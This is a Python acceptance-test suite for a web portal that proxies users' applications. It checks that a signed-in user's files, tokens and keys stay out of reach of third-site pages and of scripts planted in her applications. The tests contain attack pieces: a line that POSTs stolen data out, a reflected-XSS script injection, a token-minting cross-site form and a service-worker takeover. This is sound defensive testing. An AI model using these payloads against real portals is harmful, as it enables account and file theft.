"""Pages of a third site, of bob's, and what bob put into alice's own application, get nothing of hers at the portal."""

from __future__ import annotations

import json
import os
import re
import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote

from lab.portal import Curl
from lab.processes import PYTHON, free_port
from playwright.sync_api import Error

from tests.acceptance.browsers import KINDS
from tests.acceptance.lab_of import Embedded, Lab, NotHeld
from tests.acceptance.site_of import LocalSite
from tests.acceptance.third_site import ThirdSite
from tests.acceptance.webdriver import WebDriverError

BROWSERS = KINDS
# Where applications are: each at an origin of its own, together on one host, together on one port, on *.localhost.
SETUPS: Final = ("label", "host", "port", "embedded")
# By name only: the old way, as a control. Most of this does not hold there.
_OLD: Final = "portal"
_HERE: Final = Path(__file__).parent
_SCRIPT: Final = (_HERE / "hostile.js").read_text()
_SECRET: Final = "file of alice"
# What nobody but alice may be told.
_TELLING: Final = re.compile(rf"{_SECRET}|scp_[0-9a-f]{{64}}|Sign out|secret\.txt</|is open\"")
_SENDING: Final = "rob().then((got) => fetch('loot', {method: 'POST', body: JSON.stringify(got)}));"


@dataclass
class Scene:
    """Alice, signed in in a browser, and those around her.

    :ivar url: of the portal.
    :ivar hers, bobs: applications with faults; the one is hers, the other is bob's, who shares it with her.
    :ivar enter: has somebody signed in in her browser.
    :ivar page: the window that she looks at.
    """

    lab: Lab
    setup: str
    url: str
    portal: LocalSite | Embedded
    third: ThirdSite
    curl: Curl
    hers: Weak
    bobs: Weak
    enter: Callable[[Scene, str], None]
    context: Any = None
    page: Any = None

    def address(self, weak: Weak, name: str) -> str:
        """An application's, as an attacker knows it: the portal's name and a path."""
        return f"{self.url}/fw2/localhost:{weak.port}/{name}"

    def follow(self, page: str) -> None:
        """Have alice look at a page of the third site, and click what it offers."""
        self.third.pages["/page"] = f"<!doctype html><title>third</title>{page}"
        self.page.goto(f"{self.third.url}/page")
        self.page.click("#go")


@dataclass
class Weak:
    """One of weak.py's."""

    process: subprocess.Popen[Any]
    port: int
    log: Path
    seen: int = field(default=0)

    def loot(self) -> list[str]:
        """What was sent to it since it was asked last."""
        lines = self.log.read_text().splitlines()
        new, self.seen = lines[self.seen :], len(lines)
        return [json.loads(line) for line in new]


@dataclass(frozen=True)
class Case:
    """One way.

    :ivar name: of it, with what it does.
    :ivar seen: what it gave before applications left the portal's origin.
    :ivar does: it.
    :ivar runs: where the script must have run for the case to show anything; None where it must not.
    :ivar within: seconds.
    :ivar needs_two: it is about two people who use one browser.
    """

    name: str
    seen: str
    does: Callable[[Scene], None]
    runs: Callable[[Scene], Weak | ThirdSite | None]
    within: float = 40
    needs_two: bool = False


def run(lab: Lab) -> None:
    """See the module's first line; ``SETUP`` picks one of the set-ups."""
    failed: list[str] = []
    for setup in os.environ.get("SETUP", " ".join(SETUPS)).split():
        failed += [f"{setup}: {what}" for what in _in(lab, setup)]
    if failed:
        raise NotHeld("\n".join([f"{len(failed)} did not hold:", *failed]))


def _in(lab: Lab, setup: str) -> list[str]:
    scene, ca, rules = _embedded(lab) if setup == "embedded" else _site(lab, setup)
    home = lab.accounts["alice"].home
    (home / "secret.txt").write_text(_SECRET)
    os.chown(home / "secret.txt", lab.accounts["alice"].uid, lab.accounts["alice"].gid)
    (home / "secret.txt").chmod(0o600)
    failed = []
    with lab.browser(ca, *rules) as browser:
        for case in CASES:
            if case.needs_two and setup == "embedded":
                continue  # one person, whose origins name them
            scene.context = browser.new_context()
            scene.page = scene.context.new_page()
            scene.enter(scene, "alice")
            try:
                _try(scene, case)
            except (NotHeld, TimeoutError, WebDriverError, Error) as error:
                failed.append(f"{case.name}: {error}")
                lab.saw(f"{setup}: DID NOT HOLD: {failed[-1]}")
            scene.context.close()
    scene.portal.portal.stop()
    for weak in (scene.hers, scene.bobs):
        weak.process.terminate()
    return failed


def _try(scene: Scene, case: Case) -> None:
    begin = time.monotonic()
    for weak in (scene.hers, scene.bobs):
        weak.loot()
    scene.third.loot.clear()
    home = scene.lab.accounts["alice"].home
    for planted in set(home.glob("*.txt")) - {home / "secret.txt"}:
        planted.unlink()
    case.does(scene)
    where, loot = case.runs(scene), []
    while time.monotonic() - begin < case.within:
        loot = [*scene.hers.loot(), *scene.bobs.loot(), *scene.third.loot]
        if loot or where is None:
            break
        time.sleep(0.1)
    if where is not None and not loot:
        raise NotHeld(f"the script did not run, so nothing is shown; alice is at {scene.page.url}")
    told = [found[0] for text in loot if (found := _TELLING.search(text))]
    at = scene.page.url
    if told:
        raise NotHeld(f"from {at} the attacker has {sorted(set(told))} (before: {case.seen})")
    files = sorted(one.name for one in home.glob("*.txt"))
    if files != ["secret.txt"]:
        raise NotHeld(f"her home has {files}")
    if "stolen" in scene.curl(f"{scene.url}/tokens").text + scene.curl(f"{scene.url}/api/keys").text:
        raise NotHeld("a token or a key was made")
    scene.lab.saw(f"{scene.setup}: {case.name}: nothing ({time.monotonic() - begin:.1f} of {case.within:.0f} s)")


def _site(lab: Lab, setup: str) -> tuple[Scene, Path, list[str]]:
    how = {"apart": "host", "front": 'paths = "portal"\n'} if setup == _OLD else {"apart": setup}
    site = LocalSite(lab, "portal.test", plain_first=True, **how)
    third = ThirdSite(site.certificates)
    rules = [f"--host-resolver-rules=MAP * {site.address}"]

    def enter(scene: Scene, login: str) -> None:
        site.enter(scene.context, login)

    scene = Scene(lab, setup, site.url, site, third, site.of("alice"), *_applications(lab, site.url), enter)
    return scene, site.ca, rules


def _embedded(lab: Lab) -> tuple[Scene, Path, list[str]]:
    portal = lab.embedded()

    def enter(scene: Scene, _: str) -> None:
        scene.page.goto(portal.fresh_link())

    third = ThirdSite(None)  # its authority signs for nobody else
    scene = Scene(lab, "embedded", portal.url, portal, third, portal.curl, *_applications(lab, portal.url), enter)
    return scene, portal.ca, ["--host-resolver-rules=MAP * 127.0.0.1"]


def _applications(lab: Lab, url: str) -> tuple[Weak, Weak]:
    return _weak(lab, url, "alice"), _weak(lab, url, "bob", gid="proj")


def _weak(lab: Lab, url: str, login: str, *, port: int = 0, gid: str | None = None) -> Weak:
    number = len(list(lab.folder.glob("weak-*.log")))
    log, script = lab.folder / f"weak-{number}.log", lab.folder / f"weak-{number}.js"
    log.touch()
    log.chmod(0o666)
    script.write_text(_SCRIPT.replace("PORTAL", json.dumps(url), 1) + _SENDING)
    argv = [PYTHON, str(lab.copies.of(_HERE / "weak.py")), str(port), login, str(script), str(log)]
    process = lab.accounts.run_as(login, argv, gid=gid, stdout=subprocess.PIPE, text=True)
    return Weak(process, int(process.stdout.readline()), log)


def _link(scene: Scene) -> None:
    scene.follow(f'<a id="go" href="{scene.address(scene.hers, "stored")}">go</a>')


def _reflected(scene: Scene) -> None:
    query = quote('<script src="evil.js"></script>')
    scene.follow(f'<a id="go" href="{scene.address(scene.hers, "echo")}?q={query}">go</a>')


def _ondemand(scene: Scene) -> None:
    scene.follow(f'<a id="go" href="{scene.url}/node/localhost/{scene.hers.port}/stored">go</a>')


def _form(scene: Scene) -> None:
    address = scene.address(scene.hers, "stored")
    scene.follow(f'<form method="post" action="{address}"><button id="go">go</button></form>')


def _window(scene: Scene) -> None:
    address = scene.address(scene.hers, "stored")
    with scene.context.expect_page():
        scene.follow(f"""<button id="go" onclick="self.other = window.open('{address}')">go</button>""")


def _redirect(scene: Scene) -> None:
    scene.follow(f'<a id="go" href="/away?to={quote(scene.address(scene.hers, "stored"), safe="")}">go</a>')


def _base(scene: Scene) -> None:
    scene.follow(f'<base href="{scene.url}/"><a id="go" href="fw2/localhost:{scene.hers.port}/stored">go</a>')


def _shared(scene: Scene) -> None:
    scene.follow(f'<a id="go" href="{scene.address(scene.bobs, "stored")}">go</a>')


def _frame(scene: Scene) -> None:
    address = scene.address(scene.hers, "stored")
    scene.follow(f'<iframe src="{address}"></iframe><button id="go">go</button>')
    scene.page.wait_for_timeout(3000)


def _direct(scene: Scene) -> None:
    script = _SCRIPT.replace("PORTAL", json.dumps(scene.url), 1)
    scene.follow(f"<script>{script}</script><button id='go' onclick=\"{_SENDING}\">go</button>")


def _posted(scene: Scene) -> None:
    fields = '<input name="name" value="stolen"><input name="scope" value="dav"><input name="expires" value="30d">'
    scene.follow(f'<form method="post" action="{scene.url}/tokens">{fields}<button id="go">go</button></form>')


def _worker(scene: Scene) -> None:
    """What a first person's application left in the browser serves nobody else, though the address is the same."""
    port = free_port()
    first = _weak(scene.lab, scene.url, "carol", port=port)
    scene.enter(scene, "carol")
    scene.page.goto(scene.address(first, "page"))
    if "page of carol" not in scene.page.inner_text("body"):
        raise NotHeld(f"carol's application is not at {scene.page.url}")
    scene.page.evaluate("navigator.serviceWorker.register('sw.js', {scope: './'}).catch(() => {})")
    first.process.terminate()
    first.process.wait()
    scene.page.goto(f"{scene.url}/open/")
    with scene.page.expect_navigation():
        scene.page.click("text=Sign out everywhere")
    scene.enter(scene, "alice")
    second = _weak(scene.lab, scene.url, "alice", port=port)
    scene.page.goto(scene.address(second, "page"))
    text = scene.page.inner_text("body")
    second.process.terminate()
    second.process.wait()
    if "page of alice" not in text:
        raise NotHeld(f"at {scene.page.url} stands {text[:80]!r}")


def _nobody(_: Scene) -> None:
    return None


def _at_hers(scene: Scene) -> Weak:
    return scene.hers


def _at_bobs(scene: Scene) -> Weak | None:
    """Origins that applications share show nobody another's."""
    return scene.bobs if scene.setup == "label" else None


_TAKEN = "a token, and her files of mode 0600"
CASES: Final = (
    Case("a link to a script stored in her own application", _TAKEN, _link, _at_hers),
    Case("a link to one that it reflects", _TAKEN, _reflected, _at_hers),
    Case("a link by Open OnDemand's address", _TAKEN, _ondemand, _at_hers),
    Case("a form that is posted to it", "nothing", _form, _nobody),
    Case("a window that is opened at it", _TAKEN, _window, _at_hers),
    Case("a redirect to it", _TAKEN, _redirect, _at_hers),
    Case("a <base> that makes a link lead to it", _TAKEN, _base, _at_hers),
    Case("a frame around it", "nothing", _frame, _nobody),
    Case("a link to bob's application, which he shares", "nothing", _shared, _at_bobs),
    Case("fetch, frame, window and WebSocket of a third site", "nothing", _direct, lambda scene: scene.third),
    Case("a form of a third site that makes a token", "nothing", _posted, _nobody),
    Case("a service worker of an earlier owner of the port", "the first one's page", _worker, _nobody, needs_two=True),
)
